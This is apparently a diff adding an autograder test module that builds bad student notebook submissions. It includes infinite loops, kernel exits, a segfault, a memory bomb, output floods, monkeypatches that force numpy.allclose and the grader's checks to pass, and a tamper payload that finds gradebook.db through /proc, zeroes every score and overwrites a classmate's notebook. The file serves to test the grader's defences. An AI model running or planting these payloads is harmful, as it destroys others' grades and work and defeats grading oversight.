@@ -1,0 +1,241 @@
+"""Bad-input submissions, made for any assignment by scripted edits of its answer or release.
+
+Each one is something a grader meets in a real class: a broken file, tampered cells, code that
+never stops, kills its kernel, eats memory, floods the output, goes after the gradebook, or
+patches the checks. `expect` says what grading must give:
+  graded      False: scored 0 and listed as not graded (with the reason)
+  flags       letters the summary must show (autograde.flags.LEGEND)
+  marks       "full": every test keeps its points; "zero": every test scores 0;
+              "some": some but not all tests lose points; None: not asserted
+"""
+import ast
+import copy
+import json
+from dataclasses import dataclass
+
+import nbformat
+
+from . import blank_submission, correct_submission
+
+
+@dataclass
+class BadInput:
+    name: str
+    description: str
+    make: object            # assignment -> NotebookNode, or bytes for files that are not notebooks
+    graded: bool = True
+    flags: str = ""
+    marks: str = None
+
+    def build(self, assignment):
+        return self.make(assignment)
+
+
+def meta(cell):
+    return cell.metadata.get("nbgrader", {})
+
+
+def solution_cells(nb):
+    return [c for c in nb.cells if meta(c).get("solution") and c.cell_type == "code"]
+
+
+def graded_tests(nb):
+    return [c for c in nb.cells if meta(c).get("grade") and not meta(c).get("solution")]
+
+
+def append_to_first_answer(code):
+    def make(assignment):
+        nb = correct_submission(assignment)
+        cell = solution_cells(nb)[0]
+        cell.source = cell.source.rstrip() + "\n\n" + code.strip() + "\n"
+        return nb
+    return make
+
+
+def append_to_last_answer(code):
+    def make(assignment):
+        nb = correct_submission(assignment)
+        cell = solution_cells(nb)[-1]
+        cell.source = cell.source.rstrip() + "\n\n" + code.strip() + "\n"
+        return nb
+    return make
+
+
+# --- files that are not notebooks -------------------------------------------------------------
+
+def invalid_json(assignment):
+    text = nbformat.writes(correct_submission(assignment))
+    return text[: len(text) // 2].encode()  # cut off mid-way, as an interrupted upload would be
+
+
+def not_a_notebook(assignment):
+    return json.dumps({"answer": 42, "note": "my homework is in the attached PDF"}).encode()
+
+
+# --- tampered cells ---------------------------------------------------------------------------
+
+def deleted_cells(assignment):
+    nb = correct_submission(assignment)
+    first_test = graded_tests(nb)[0]
+    setup = next(c for c in nb.cells if meta(c).get("locked") and not meta(c).get("grade"))
+    nb.cells = [c for c in nb.cells if c is not first_test and c is not setup]
+    return nb
+
+
+def duplicated_cells(assignment):
+    nb = correct_submission(assignment)
+    first_test, first_answer = graded_tests(nb)[0], solution_cells(nb)[0]
+    nb.cells.insert(nb.cells.index(first_test) + 1, duplicate(first_test))
+    nb.cells.insert(nb.cells.index(first_answer), duplicate(first_answer))
+    return nb
+
+
+def duplicate(cell):
+    twin = copy.deepcopy(cell)
+    twin["id"] = f"{cell.get('id', 'cell')}-copy"
+    return twin
+
+
+def retyped_cells(assignment):
+    nb = correct_submission(assignment)
+    test, answer = graded_tests(nb)[0], solution_cells(nb)[0]
+    for cell, new_type in ((test, "markdown"), (answer, "raw")):
+        cell.cell_type = new_type
+        cell.pop("outputs", None)
+        cell.pop("execution_count", None)
+    return nb
+
+
+def edited_tests(assignment):
+    nb = blank_submission(assignment)  # nothing answered: only the tests' edits could earn points
+    for cell in graded_tests(nb):
+        cell.source = 'print("all tests passed")'
+    return nb
+
+
+# --- code that misbehaves when run ----------------------------------------------------------------
+
+def endless_loop(assignment):
+    """Every function the student wrote starts with `while True: pass`: each test hangs."""
+    nb = correct_submission(assignment)
+    for cell in solution_cells(nb):
+        cell.source = hang_every_function(cell.source)
+    return nb
+
+
+def hang_every_function(source):
+    lines = source.split("\n")
+    starts = sorted({(node.body[0].lineno, node.body[0].col_offset) for node in ast.walk(ast.parse(source))
+                     if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef))}, reverse=True)
+    for line, column in starts:
+        lines.insert(line - 1, " " * column + "while True:  # the bug: this never ends\n" + " " * column + "    pass")
+    return "\n".join(lines)
+
+
+KERNEL_EXIT = """
+import os
+os._exit(3)  # leaves the kernel at once, as a C extension's exit() would
+"""
+
+SEGFAULT = """
+import ctypes
+ctypes.string_at(0)  # reads address 0: segmentation fault
+"""
+
+MEMORY_BOMB = """
+def use_all_memory():
+    hog = []
+    while True:
+        hog.append(b"x" * (256 * 2**20))
+
+
+use_all_memory()
+"""
+
+HUGE_OUTPUT = """
+print("x" * 5_000_000)
+for i in range(100_000):
+    print("step", i)
+"""
+
+TAMPER = '''
+import glob as _glob
+import os as _os
+import sqlite3 as _sqlite3
+
+
+def _courses_nearby():
+    """Course folders in the working directories of the processes that started this kernel."""
+    found, pid = set(), _os.getppid()
+    for _ in range(2):
+        try:
+            cwd = _os.readlink(f"/proc/{pid}/cwd")
+            for db in _glob.glob(_os.path.join(cwd, "gradebook.db")) + _glob.glob(_os.path.join(cwd, "*", "gradebook.db")):
+                found.add(_os.path.dirname(db))
+            with open(f"/proc/{pid}/stat") as stat:
+                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
+    here = _os.getcwd()
+    while here != _os.path.dirname(here):  # and up from the working directory
+        if _os.path.exists(_os.path.join(here, "gradebook.db")):
+            found.add(here)
+        here = _os.path.dirname(here)
+    return found
+
+
+for _course in _courses_nearby():
+    try:
+        with _sqlite3.connect(_os.path.join(_course, "gradebook.db")) as _db:
+            _db.execute("UPDATE grade SET auto_score = 0")  # everybody else fails
+    except Exception:
+        pass
+    for _other in sorted(_glob.glob(_os.path.join(_course, "submitted", "*", "*", "*.ipynb")))[:1]:
+        try:
+            with open(_other, "w") as _f:
+                _f.write("{}")  # and one classmate's work is gone
+        except OSError:
+            pass
+'''
+
+MONKEYPATCH = """
+import numpy
+import autograde.check
+
+numpy.allclose = lambda *args, **kwargs: True
+autograde.check.is_close = lambda got, expected, *args, **kwargs: numpy.ones(numpy.shape(expected), bool)
+"""
+
+AUTOGRAD_HELPER = """
+def gradient_by_autograd(f, x):
+    x = torch.tensor(x, dtype=torch.float64, requires_grad=True)
+    f(x).sum().backward()
+    return x.grad.numpy()
+"""
+
+BAD_INPUTS = [
+    BadInput("invalid_json", "the notebook file cut off half-way", invalid_json, graded=False, flags="X"),
+    BadInput("not_a_notebook", "a JSON file that is not a notebook", not_a_notebook, graded=False, flags="X"),
+    BadInput("deleted_cells", "the setup cell and the first test cell deleted", deleted_cells,
+             flags="T", marks="full"),
+    BadInput("duplicated_cells", "the first test and answer cells duplicated", duplicated_cells,
+             flags="T", marks="full"),
+    BadInput("retyped_cells", "the first test cell made markdown, the first answer raw", retyped_cells,
+             flags="T", marks="full"),
+    BadInput("edited_tests", "nothing answered, every test replaced by a print", edited_tests,
+             flags="T", marks="zero"),
+    BadInput("endless_loop", "every function loops forever", endless_loop, flags="L", marks="zero"),
+    BadInput("kernel_exit", "os._exit() at the end of the last answer", append_to_last_answer(KERNEL_EXIT),
+             flags="K", marks="some"),
+    BadInput("kernel_segfault", "a segfault at the end of the last answer", append_to_last_answer(SEGFAULT),
+             flags="K", marks="some"),
+    BadInput("memory_bomb", "allocates until memory runs out", append_to_first_answer(MEMORY_BOMB),
+             flags="M", marks="full"),
+    BadInput("huge_output", "prints megabytes", append_to_first_answer(HUGE_OUTPUT), flags="O", marks="full"),
+    BadInput("tamper", "zeroes the gradebook and erases a classmate's notebook", append_to_first_answer(TAMPER),
+             flags="W"),
+    BadInput("monkeypatch", "patches numpy.allclose and the checking library", append_to_first_answer(MONKEYPATCH),
+             flags="P", marks="full"),
+    BadInput("autograd_call", "a helper that calls .backward()", append_to_first_answer(AUTOGRAD_HELPER),
+             flags="A", marks="full"),
+]
